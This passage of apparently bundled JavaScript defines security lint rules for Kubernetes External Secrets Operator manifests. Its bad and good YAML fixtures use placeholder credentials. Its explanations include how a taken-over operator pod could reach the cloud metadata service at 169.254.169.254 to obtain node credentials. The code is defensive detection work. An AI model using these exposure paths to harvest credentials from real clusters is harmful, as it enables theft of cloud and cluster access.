});
var AGGREGATE = "rbac.authorization.k8s.io/aggregate-to-";
var isAboutOperator = (role) => policyRules(role).some((rule2) => namesGroup(rule2, ESO_GROUP) || namesGroup(rule2, GENERATORS_GROUP));

// src/check/inline-secrets.ts
function inlineSecretsIn(manifest) {
  const connected = connectedOf(manifest);
  if (!connected) return [];
  return (connected.known?.inline ?? []).flatMap(
    ({ field, what, isFreeForm = false, isTestData = false }) => placesOf(connected.config, field).filter(({ path, value }) => isMaterial(value) && (!isFreeForm || looksSecret(String(path.at(-1)), value))).map(({ path }) => ({
      ...{ path: [...connected.path, ...path], field, what, isTestData },
      ...{ title: titleOf(connected), isCertain: !isFreeForm }
    }))
  );
}
var looksSecret = (key, value) => holdsCredential(key, value) || key !== "body" && isCredentialKey(key);

// src/rules/inline-provider-secret.ts
var inline_provider_secret_default = defineRule({
  id: "inline-provider-secret",
  title: "A store or generator holds secret material itself",
  severities: ["critical", "medium"],
  kinds: kindsWith(({ inline = [] }) => inline.some(({ isTestData }) => !isTestData)),
  needs: ["connections"],
  why: "A store is no Secret: everybody with the view role reads it, backups and audit logs carry it, it is not encrypted at rest, and here it is in the repository's history as well. Whoever reads it signs in to the provider.",
  remedy: "Revoke the credential, put the new one into a Secret that is not in git, and name it by the `secretRef` beside the field; in a webhook list the Secret under `secrets` and write `{{ .name.key }}` where its value belongs.",
  references: [
    "https://external-secrets.io/latest/provider/webhook/",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["TM2"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: delinea, namespace: shop }
spec:
  provider:
    delinea:
      tenant: shop
      clientId: { value: shop }
      clientSecret:
        value: s3cr3t-of-the-example # finding: the client secret for Delinea DevOps Secrets Vault stands in clear text in clientSecret.value
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: secretserver }
spec:
  conditions: [{ namespaces: [shop] }]
  provider:
    secretserver:
      serverURL: https://secrets.example.com
      username: { value: shop }
      password: { value: p4ssword-of-the-example } # finding: the password for Delinea Secret Server
`,
    `
# In headers and bodies only the name tells a credential.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: api, namespace: shop }
spec:
  provider:
    webhook:
      url: https://api.example.com/{{ .remoteRef.key }}
      headers:
        Content-Type: application/json
        Authorization: Bearer t0ken-of-the-example # finding[medium]: the header Authorization for Webhook looks like a credential in clear text
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: Webhook
metadata: { name: token, namespace: shop }
spec:
  url: https://api.example.com/token
  method: POST
  body: '{"client": "shop", "password": "p4ssword-of-the-example"}' # finding[medium]: the body for Webhook generator looks like a credential in clear text
  result: { jsonPath: $.token }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ClusterGenerator
metadata: { name: database }
spec:
  kind: VaultDynamicSecret
  generator:
    vaultDynamicSecretSpec:
      path: database/creds/shop
      provider:
        server: https://vault.example.com
        headers:
          X-Gateway-Token: t0ken-of-the-example # finding[medium]: the header X-Gateway-Token for Vault dynamic secret
        auth: { kubernetes: { role: shop, serviceAccountRef: { name: shop } } }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: delinea, namespace: shop }
spec:
  provider:
    delinea:
      tenant: shop
      clientId: { value: shop }
      clientSecret: { secretRef: { name: delinea, key: secret } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    scaleway:
      region: fr-par
      projectId: shop
      accessKey: { value: SCW-EXAMPLE }
      secretKey:
        value: \${SCALEWAY_SECRET_KEY}
`,
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: api, namespace: shop }
spec:
  provider:
    webhook:
      url: https://api.example.com/{{ .remoteRef.key }}
      headers:
        Authorization: Bearer {{ .auth.token }}
        X-Auth-Type: oauth
        Accept: application/json
      body: '{"user": "shop", "password": "{{ .auth.password }}"}'
      secrets: [{ name: auth, secretRef: { name: api } }]
`,
    `
# What the fake provider answers is no credential of a provider.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: fake, namespace: shop }
spec:
  provider:
    fake: { data: [{ key: a, value: b }] }
`
  ],
  *check(manifest) {
    for (const { path, field, what, title, isCertain, isTestData } of inlineSecretsIn(manifest)) {
      const name = String(path.at(-1));
      const which = name === what ? what : `${what} ${name}`;
      if (isTestData) continue;
      if (isCertain) yield { path, message: `the ${what} for ${title} stands in clear text in ${field}` };
      else
        yield { path, message: `the ${which} for ${title} looks like a credential in clear text`, severity: "medium" };
    }
  }
});

// src/rules/inline-secrets-readable-by-viewers.ts
var inline_secrets_readable_by_viewers_default = defineRule({
  id: "inline-secrets-readable-by-viewers",
  title: "Everyone with the role view reads secrets that are written into stores or generators",
  severities: ["low"],
  kinds: ["rbac.authorization.k8s.io/ClusterRole"],
  why: "The built-in role `view` is kept from Secrets on purpose. With this label it shows stores and generators, and with them the values that are written into those: whoever may look at a namespace has them.",
  remedy: "Put the value into a Secret and refer to it from the store or generator. Until then set `rbac.aggregateToView: false` in the operator chart.",
  references: [
    "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#user-facing-roles",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["RM4"],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: external-secrets-view
  labels:
    rbac.authorization.k8s.io/aggregate-to-view: "true" # finding: through this label everyone with the built-in role view can read the secrets written into SecretStore shop/static, Webhook shop/ticket
    rbac.authorization.k8s.io/aggregate-to-edit: "true"
rules:
  - { apiGroups: [external-secrets.io], resources: [secretstores, clustersecretstores], verbs: [get, list, watch] }
  - { apiGroups: [generators.external-secrets.io], resources: [webhooks, fakes], verbs: [get] }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: static, namespace: shop }
spec:
  provider:
    fake: { data: [{ key: /db/password, value: hunter2 }] }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: Webhook
metadata: { name: ticket, namespace: shop }
spec:
  url: https://tickets.example.com
  headers: { Content-Type: application/json, Authorization: Bearer 0a1b2c3d4e5f }
`,
    `
# Cluster-scoped ones are read by those who have the role in all namespaces.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: external-secrets-view
  labels:
    rbac.authorization.k8s.io/aggregate-to-view: "true" # finding: ClusterSecretStore scaleway
rules:
  - { apiGroups: [external-secrets.io], resources: [clustersecretstores], verbs: [list] }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: scaleway }
spec:
  provider:
    scaleway: { region: fr-par, projectId: p, accessKey: { value: id }, secretKey: { value: 0a1b2c3d } }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: viewers }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view }
subjects: [{ apiGroup: rbac.authorization.k8s.io, kind: Group, name: staff }]
`
  ],
  good: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: external-secrets-view, labels: { rbac.authorization.k8s.io/aggregate-to-view: "true" } }
rules:
  - { apiGroups: [external-secrets.io], resources: [secretstores, clustersecretstores], verbs: [get, list, watch] }
  - { apiGroups: [generators.external-secrets.io], resources: [webhooks], verbs: [create] }
---
# A reference, a value that is filled in later, one that a template makes, and a header that is no secret.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: reference, namespace: shop }
spec:
  provider:
    scaleway: { secretKey: { secretRef: { name: scaleway, key: secret } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    fake: { data: [{ key: /db/password, value: "\${PASSWORD}" }] }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: template, namespace: shop }
spec:
  provider:
    webhook:
      url: https://tickets.example.com
      headers: { Accept: application/json, Authorization: "{{ .auth.token }}" }
---
# The role does not show generators, and nobody has it in all namespaces.
apiVersion: generators.external-secrets.io/v1alpha1
kind: Webhook
metadata: { name: ticket, namespace: shop }
spec:
  url: https://tickets.example.com
  headers: { Authorization: Bearer 0a1b2c3d4e5f }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: static }
spec:
  provider:
    fake: { data: [{ key: /db/password, value: hunter2 }] }
`,
    `
# Whoever may edit reads Secrets anyway.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: external-secrets-view, labels: { rbac.authorization.k8s.io/aggregate-to-edit: "true" } }
rules:
  - { apiGroups: [external-secrets.io], resources: [secretstores], verbs: [get] }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: static, namespace: shop }
spec:
  provider:
    fake: { data: [{ key: /db/password, value: hunter2 }] }
`
  ],
  *check(role, world) {
    const view = builtInAggregation(role).find(({ roles }) => roles.includes("view"));
    if (!view) return;
    const exposed = CONNECTED_KINDS.flatMap((kind) => world.of(kind)).filter(
      (manifest) => showsByView(role, manifest, world)
    );
    const values = exposed.flatMap(
      (manifest) => inlineSecretsIn(manifest).map(
        ({ path, what }) => ({ manifest, path, message: `a ${what} stands here` })
      )
    );
    if (values.length === 0) return;
    const names = [...new Set(values.map(({ manifest }) => nameOf(manifest)))];
    const more = names.length > NAMED5 ? ` and ${names.length - NAMED5} more` : "";
    yield {
      path: ["metadata", "labels", view.label],
      message: `through this label everyone with the built-in role view can read the secrets written into ${names.slice(0, NAMED5).join(", ")}${more}`,
      related: values
    };
  },
  fix: (fault) => unsafe(VIEWERS, withoutAggregation(fault))
});
var VIEWERS = "Does anybody look at the operator's objects by the built-in role view? They need a role of their own first.";
var NAMED5 = 3;
function showsByView(role, manifest, { rbac }) {
  const access = {
    group: groupOf(manifest.apiVersion),
    resource: `${manifest.kind.toLowerCase()}s`,
    verbs: ["get", "list", "watch"]
  };
  const isShown = [role, ...rbac.aggregatedBy(role)].flatMap(policyRules).some(
    (rule2) => (rule2.resourceNames.length === 0 || rule2.resourceNames.includes(manifest.name)) && verbsGiven(rule2, access).length > 0
  );
  const isReached = isNamespaced(manifest.groupKind) || rbac.grantsOfClusterRole("view").some(({ namespace }) => namespace === void 0);
  return isShown && isReached;
}

// src/check/manifest-faults.ts
function* manifestFaults(object, world) {
  const verdict = world.schemas.judge(object);
  if (!verdict || verdict.faults.length === 0) return;
  const isPart = mayBePart(object, world);
  const said = /* @__PURE__ */ new Set();
  for (const fault of verdict.faults) {
    if (mayStandElsewhere(fault, object, isPart) || !verdict.isOwn && isEndedProvider(fault)) continue;
    const key = JSON.stringify([fault.path, fault.says]);
    if (said.has(key)) continue;
    said.add(key);
    yield { path: fault.path, message: `${sentence(fault)} (judged by ${verdict.by})`, discriminator: fault.says };
  }
}
function mayStandElsewhere({ kind, path }, object, isPart) {
  const { template, composition, file } = object;
  if (kind === "empty") return isPart || template !== void 0 || BASE_FILE.test(composition?.by ?? file);
  return kind === "whole" && isPart && !path.some((step) => typeof step === "number");
}
var isEndedProvider = ({ kind, path }) => kind === "unknown" && path.length === 3 && path[1] === "provider" && PROVIDERS.get(String(path[2]))?.until !== void 0;
function sentence({ path, kind, says: says2, names = [] }) {
  const field = fieldName(path);
  if (kind !== "unknown") return `${field} ${says2}`;
  const near = nearest(String(path.at(-1)), names);
  const hint = near === void 0 ? `there ${areThere(names)}` : `did you mean \`${near}\`?`;
  return `${field} ${says2} of its kind, so strict clients refuse it and others drop it: ${hint}`;
}
var MOST_NAMES = 12;
var areThere = (names) => names.length > MOST_NAMES ? `are ${names.length} others` : `are ${[...names].sort().join(", ")}`;
var fieldName = (path) => `\`${path.map((step) => typeof step === "number" ? `[${step}]` : `.${step}`).join("").slice(1)}\``;
var BASE_FILE = /(?:^|\/)bases?\//;
var PATCH_FILE = /patch|(?:^|\/)(?:overlays?|components)\//i;
function mayBePart(object, world) {
  if (!asMapping(object.get("spec"))) return true;
  if (STORE_KINDS.some((kind) => kind === object.groupKind) && !isWhole(object)) return true;
  if (object.template !== void 0 || object.composition) return false;
  return PATCH_FILE.test(object.file) || hasTwin(object, world);
}
var hasTwin = (object, world) => (filesOf(world).get(nameOfKind(object))?.size ?? 0) > 1;
var filesOf = remember((world) => {
  const files = /* @__PURE__ */ new Map();
  for (const manifest of ESO_KINDS.flatMap((kind) => world.of(kind))) {
    const name = nameOfKind(manifest);
    files.set(name, (files.get(name) ?? /* @__PURE__ */ new Set()).add(manifest.file));
  }
  return files;
});
var nameOfKind = ({ groupKind, name }) => `${groupKind}/${name}`;

// src/rules/invalid-manifest.ts
var invalid_manifest_default = defineRule({
  id: "invalid-manifest",
  title: "An object does not fit its kind's CRD",
  severities: ["high"],
  kinds: ESO_KINDS,
  why: "The API server refuses a wrong value, and a field that does not exist it refuses or drops without a word, as the client asks. A misspelt `conditions` is a store that serves every namespace; a secret that does not sync is an outage.",
  remedy: "Write the field as the CRD of your ESO version has it: `kubectl explain secretstore.spec --recursive` lists its fields, and `kubectl apply --dry-run=server --validate=strict` tries the object. Where the operator chart is in the checked set, its own CRDs decide; else those of the newest version that this tool knows. Of CEL rules only those that ask for the object as it is are tried.",
  references: [
    "https://external-secrets.io/latest/api/spec/",
    "https://kubernetes.io/docs/tasks/extend-kubernetes/custom-resources/custom-resource-definitions/#specifying-a-structural-schema"
  ],
  guide: ["TM4", "NI2"],
  bad: [
    `
# The store of the guidance: ClusterSecretStores have no such field.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  conditions:
    - namespaces: [shop]
  secretRef: # finding: \`spec.secretRef\` is no field of its kind, so strict clients refuse it and others drop it: there are conditions, controller, provider, refreshInterval, retrySettings (judged by the CRD of ESO 2.9.0, as none is in the set)
    namespace: eso
  provider:
    vault:
      server: https://vault.example.com
      path: secret
      auth: { kubernetes: { mountPath: kubernetes, role: eso } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: open-by-a-typo }
spec:
  condition: # finding: did you mean \`conditions\`?
    - namespaces: [shop]
  provider:
    aws: { service: Secretsmanager, region: eu-west-1 } # finding: \`spec.provider.aws.service\` must be one of SecretsManager, ParameterStore
`,
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec:
  secretStoreRef: { name: vault, kind: VaultStore } # finding: must be one of SecretStore, ClusterSecretStore
  refreshInterval: 60 # finding: \`spec.refreshInterval\` must be text, not a number
  target:
    name: db
    template:
      engineVersion: v1 # finding: must be one of v2
  data:
    - secretKey: password
      remoteRef: # finding: \`spec.data[0].remoteRef\` lacks its required field \`key\`
        path: shop/db # finding: \`spec.data[0].remoteRef.path\` is no field
    - secretKey: user
      remoteRef:
        key: # finding: \`spec.data[1].remoteRef.key\` is required and has no value
`,
    `
# What CEL rules and counts say is about the whole mapping.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: two, namespace: shop }
spec:
  provider: # finding: \`spec.provider\` must have exactly 1 entry
    fake: { data: [{ key: a, value: b }] }
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: push, namespace: shop }
spec: # finding: \`spec\` lacks its required field \`selector\`
  secretStoreRefs: [{ name: vault }]
`,
    `
# The CRD in the set decides.
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: uuids.generators.external-secrets.io }
spec:
  group: generators.external-secrets.io
  names: { kind: UUID, plural: uuids }
  scope: Namespaced
  versions:
    - name: v1alpha1
      served: true
      storage: true
      schema:
        openAPIV3Schema:
          type: object
          properties:
            spec:
              description: |-
                not read
              type: object
              properties: { upper: { type: boolean } }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: UUID
metadata: { name: id, namespace: shop }
spec:
  upper: "yes" # finding: \`spec.upper\` must be true or false, not text (judged by the CRD in
  lower: true # finding: \`spec.lower\` is no field
`
  ],
  good: [
    `
# Defaults count as given, nulls as absent, and what is filled in later is unknown.
apiVersion: generators.external-secrets.io/v1alpha1
kind: Password
metadata: { name: password, namespace: shop }
spec: { length: 32, symbols: null }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec:
  secretStoreRef: { name: VAULT_STORE, kind: "\${STORE_KIND}" }
  refreshInterval: 1h
  target:
    creationPolicy: {{ .Values.policy }}
  data:
    - secretKey: <KEY>
      remoteRef: \${REMOTE_REF}
sops: { version: 3.9.0 }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: Webhook
metadata: { name: hook, namespace: shop }
spec:
  url: https://hooks.example.com
  result: { jsonPath: $.token }
---
# Integers and texts alike.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  refreshInterval: 60
  provider:
    vault:
      server: https://vault.example.com
      path: secret
      auth: { kubernetes: { mountPath: kubernetes, role: eso, serviceAccountRef: { name: shop } } }
`,
    `
# An overlay's patch: what it lacks stands in what it changes.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  conditions:
    - namespaces: [shop]
---
# The predecessor's kind of the same name, and a version that the newest operator does not serve.
apiVersion: kubernetes-client.io/v1
kind: ExternalSecret
metadata: { name: old }
spec: { backendType: vault }
---
apiVersion: external-secrets.io/v1alpha1
kind: ExternalSecret
metadata: { name: older }
spec: { anything: true }
`
  ],
  check: (object, world) => manifestFaults(object, world)
});

// src/rules/long-lived-service-account-token.ts
var long_lived_service_account_token_default = defineRule({
  id: "long-lived-service-account-token",
  title: "A Secret keeps a token of a ServiceAccount that never expires",
  severities: ["high"],
  kinds: ["core/Secret"],
  why: "Whoever reads this Secret once, in a backup or with `get secrets` in the namespace, is the ServiceAccount until somebody deletes the Secret: at the API server, and at every provider that trusts its tokens.",
  remedy: "Delete the Secret, and let tokens be made when they are needed: a store does it with a reference to the ServiceAccount, Prometheus with the projected token of its own pod. The operator chart renders one for the controller with `metrics.listen.auth.enabled: true` and `serviceAccount.create: true`: name a ServiceAccount that you make yourself.",
  references: [
    "https://kubernetes.io/docs/concepts/security/service-accounts/#get-a-token",
    "https://kubernetes.io/docs/concepts/configuration/secret/#serviceaccount-token-secrets"
  ],
  guide: ["TM2"],
  bad: [
    `
apiVersion: v1
kind: Secret
metadata:
  name: external-secrets-token
  namespace: eso
  annotations: { kubernetes.io/service-account.name: external-secrets }
type: kubernetes.io/service-account-token # finding: it keeps a token of ServiceAccount eso/external-secrets, which the operator runs as
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# A ServiceAccount that a store names, and a Secret that one reads.
apiVersion: v1
kind: Secret
metadata: { name: vault-client, namespace: shop, annotations: { kubernetes.io/service-account.name: vault-client } }
type: kubernetes.io/service-account-token # finding: it keeps a token of ServiceAccount shop/vault-client, which SecretStore shop/vault signs in as
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: vault-client } } }
---
apiVersion: v1
kind: Secret
metadata: { name: reader-token, namespace: payments, annotations: { kubernetes.io/service-account.name: reader } }
type: kubernetes.io/service-account-token # finding: it keeps a token of ServiceAccount payments/reader, which ClusterSecretStore payments signs in with
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: payments }
spec:
  provider:
    kubernetes:
      remoteNamespace: payments
      auth: { token: { bearerToken: { name: reader-token, namespace: payments, key: token } } }
`
  ],
  good: [
    `
# Nobody's that the operator has to do with: another account, another namespace, another type.
apiVersion: v1
kind: Secret
metadata: { name: ci, namespace: shop, annotations: { kubernetes.io/service-account.name: ci } }
type: kubernetes.io/service-account-token
---
apiVersion: v1
kind: Secret
metadata: { name: vault-client, namespace: bar, annotations: { kubernetes.io/service-account.name: vault-client } }
type: kubernetes.io/service-account-token
---
apiVersion: v1
kind: Secret
metadata: { name: vault-client, namespace: shop, annotations: { kubernetes.io/service-account.name: vault-client } }
type: Opaque
---
apiVersion: v1
kind: Secret
metadata: { name: later, namespace: shop, annotations: { kubernetes.io/service-account.name: "\${ACCOUNT}" } }
type: kubernetes.io/service-account-token
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: vault-client } } }
`
  ],
  *check(secret, world) {
    const name = asText(secret.get("metadata", "annotations", "kubernetes.io/service-account.name"));
    if (secret.get("type") !== TYPE || !name || isPlaceholder(name) || isPlaceholder(secret.namespace)) return;
    const account = { kind: "ServiceAccount", name, namespace: secret.namespace };
    const use = world.eso.isOwn(account) ? "which the operator runs as" : useByStore(account, secret, world);
    if (use === void 0) return;
    yield {
      path: ["type"],
      message: `it keeps a token of ${nameOfSubject(account)}, ${use}, and the token never expires`
    };
  },
  fix: () => unsafe(READERS, REMOVAL)
});
var READERS = "Does anything still read the token from this Secret? It needs another way to sign in first.";
var TYPE = "kubernetes.io/service-account-token";
function useByStore(account, secret, world) {
  if (account.namespace === void 0) return void 0;
  const signsInAs = storeSigningInAs(account, world);
  if (signsInAs) return `which ${nameOf(signsInAs)} signs in as`;
  const signsInWith = credentialsIn(secret, world).find(
    ({ manifest }) => STORE_KINDS.includes(manifest.groupKind)
  );
  return signsInWith && `which ${nameOf(signsInWith.manifest)} signs in with`;
}

// src/check/metadata-use.ts
var mayNeedMetadata = remember(
  (world) => CONNECTED_KINDS.flatMap((kind) => world.of(kind)).some((manifest) => {
    const connected = connectedOf(manifest);
    return !connected?.known || mayNeedMetadataFor(connected);
  })
);
var mayNeedMetadataFor = (connected) => maySignInAsPod(connected) || usesGoogleIdentity(connected);
var usesGoogleIdentity = ({ config }) => ["auth.workloadIdentity", "auth.gcp"].some((field) => isSet(config, field));

// src/check/network.ts
var NAMESPACED_POLICY_KINDS = [
  "networking.k8s.io/NetworkPolicy",
  "cilium.io/CiliumNetworkPolicy",
  "projectcalico.org/NetworkPolicy",
  "crd.projectcalico.org/NetworkPolicy"
];
var POLICY_KINDS = [
  ...NAMESPACED_POLICY_KINDS,
  "policy.networking.k8s.io/AdminNetworkPolicy",
  "policy.networking.k8s.io/BaselineAdminNetworkPolicy",
  "cilium.io/CiliumClusterwideNetworkPolicy",
  "projectcalico.org/GlobalNetworkPolicy",
  "crd.projectcalico.org/GlobalNetworkPolicy"
];
var componentsOf = ({ eso }) => eso.installs.flatMap(({ components }) => components);
var componentsUnder = (policy, direction, world) => componentsSelectedBy(policy, world).filter(({ pod }) => world.network.isolating(pod, direction).length > 0);
var componentsSelectedBy = (policy, world) => [
  ...selected(world).get(policy) ?? []
];
var selected = remember((world) => {
  const pairs = componentsOf(world).flatMap(
    (component) => world.network.selecting(component.pod).map(({ policy }) => ({ policy, component }))
  );
  const groups = Map.groupBy(pairs, ({ policy }) => policy);
  return new Map([...groups].map(([policy, group]) => [policy, new Set(group.map(({ component }) => component))]));
});
var openingRules = (policy, { pod }, direction, world) => world.network.rules(pod, direction).filter((rule2) => rule2.policy === policy && rule2.action !== "deny");
var isMostOfInternet = (set) => [PUBLIC_V4, PUBLIC_V6].some((internet) => set.intersect(internet).size * 2n >= internet.size);
function openToInternet(rule2, { pod }, direction, world) {
  const { network } = world;
  if (!isMostOfInternet(rule2.peers.certain)) return [];
  const sets = network.rules(pod, direction).map(({ ports }) => ports);
  return ["TCP", "UDP"].flatMap((protocol) => {
    const edges = portEdges(sets, protocol);
    const open = edges.flatMap((first, i) => {
      const query = { protocol, port: first };
      const isOpen = takesPort(rule2.ports, query) === "yes" && isMostOfInternet(network.admitted(pod, direction, query).intersect(rule2.peers.certain));
      return isOpen ? { protocol, first, last: (edges[i + 1] ?? LAST_PORT + 1) - 1 } : [];
    });
    return merged(open);
  });
}
function merged(ranges) {
  const result = [];
  for (const range of ranges) {
    const before = result.at(-1);
    if (before && before.last + 1 === range.first) result[result.length - 1] = { ...before, last: range.last };
    else result.push(range);
  }
  return result;
}
var isEveryPort = (ports) => ports.some(({ protocol, first, last }) => protocol === "TCP" && first <= 1 && last === LAST_PORT);
function decidingPolicy({ pod }, direction, world) {
  const isolating = world.network.selecting(pod).filter(({ directions }) => directions.has(direction));
  return isolating.find((isolation) => isolation.rules(direction, pod).length > 0) ?? isolating[0];
}
var rolesText = (components) => joined(ROLES.filter((known) => components.some(({ role }) => role === known)).map((role) => `the ${role}`));
var ROLES = ["controller", "webhook", "cert-controller"];

// src/rules/metadata-service-reachable.ts
var metadata_service_reachable_default = defineRule({
  id: "metadata-service-reachable",
  title: "A network policy leaves the cloud’s metadata service open to the operator",
  severities: ["medium"],
  kinds: POLICY_KINDS,
  needs: ["install", "stores"],
  why: "On 169.254.169.254 clouds hand the credentials of the node to whoever asks from it. No store of this set signs in that way, so the operator’s pod has no business there; whoever takes it over, or writes a store with that address as its server, leaves with the rights of the node.",
  remedy: "Except the block in the egress rule (`except: [169.254.0.0/16]` beside the `cidr`), or name the providers’ addresses instead; with Cilium or Calico deny it. On the node’s side, let the metadata service answer pods no more (hop limit 1 on AWS, Workload Identity on Google’s and Azure’s clusters): that is for whoever runs the nodes.",
  references: [
    "https://kubernetes.io/docs/concepts/services-networking/network-policies/#networkpolicy-resource",
    "https://kubernetes.io/docs/tasks/administer-cluster/securing-a-cluster/#restricting-cloud-metadata-api-access"
  ],
  guide: ["NS2", "TM2"],
  bad: [
    `
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: egress, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Egress]
  egress:
    - ports: [{ port: 53, protocol: UDP }]
    - to: [{ ipBlock: { cidr: 0.0.0.0/0, except: [10.0.0.0/8] } }] # finding: it lets the controller connect to the metadata service (169.254.169.254), and no store of the set needs it
      ports: [{ port: 80 }, { port: 443 }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
`,
    `
# IRSA signs in with a token of its own.
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: egress, namespace: eso }
spec:
  endpointSelector: {}
  egress:
    - toEntities: [world] # finding: connect to the metadata service (169.254.169.254)
      toPorts: [{ ports: [{ port: "1", endPort: 1024, protocol: TCP }] }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: aws, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1, auth: { jwt: { serviceAccountRef: { name: shop } } } }
`
  ],
  good: [
    `
# Without auth this store signs in as the pod or its node.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: egress, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Egress]
  egress:
    - ports: [{ port: 80 }, { port: 443 }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: aws, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
`,
    `
# The block is excepted, the port is another one, or the address is filled in later.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: egress, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Egress]
  egress:
    - to: [{ ipBlock: { cidr: 0.0.0.0/0, except: [169.254.0.0/16] } }]
      ports: [{ port: 80 }]
    - ports: [{ port: 443 }]
    - to: [{ ipBlock: { cidr: "\${NETWORK}" } }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { tokenSecretRef: { name: vault, key: token } }
`
  ],
  *check(policy, world) {
    const components = componentsUnder(policy, "egress", world);
    if (components.length === 0 || mayNeedMetadata(world)) return;
    const open = components.flatMap(
      (component) => openingRules(policy, component, "egress", world).filter((rule2) => opensMetadata(rule2, component, world)).map((rule2) => ({ component, path: rule2.path }))
    );
    for (const same of Map.groupBy(open, ({ path }) => JSON.stringify(path)).values()) {
      const roles = rolesText(same.map(({ component }) => component));
      yield {
        path: same[0]?.path ?? [],
        message: `it lets ${roles} connect to the metadata service (${ADDRESS}), and no store of the set needs it`
      };
    }
  },
  fix({ manifest, path }) {
    const peers = asList(manifest?.get(...path, "to"));
    const i = peers.findIndex((peer) => asText(valueAt(peer, ["ipBlock", "cidr"]))?.endsWith("/0"));
    if (!manifest?.groupKind.startsWith("networking.k8s.io/") || i < 0) return void 0;
    const block = [...path, "to", i, "ipBlock", "except"];
    return unsafe(IDENTITY2, setting(block, [...asTexts(manifest.get(...block)), `${ADDRESS}/32`]));
  }
});
